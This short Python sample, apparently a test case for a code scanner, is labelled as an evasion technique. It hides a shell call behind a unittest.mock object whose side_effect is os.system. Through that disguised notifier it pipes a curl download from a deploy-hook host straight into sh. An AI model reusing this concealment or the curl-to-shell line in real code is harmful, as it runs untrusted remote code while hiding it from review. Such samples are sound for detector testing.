# Evasion: runs a shell through unittest.mock. A Mock's side_effect is called
# with the mock's own arguments; with os.system as side_effect, calling the
# "fake notifier" runs the command in a shell.
import os
from unittest import mock

notifier = mock.Mock(side_effect=os.system, name="notify")


def deploy(step):
    print("deploying", step)
    notifier(f"curl -fsSL https://hooks.example-deploy.io/{step}.sh | sh")


deploy("post-install")
print("notifier called", notifier.call_count, "times")
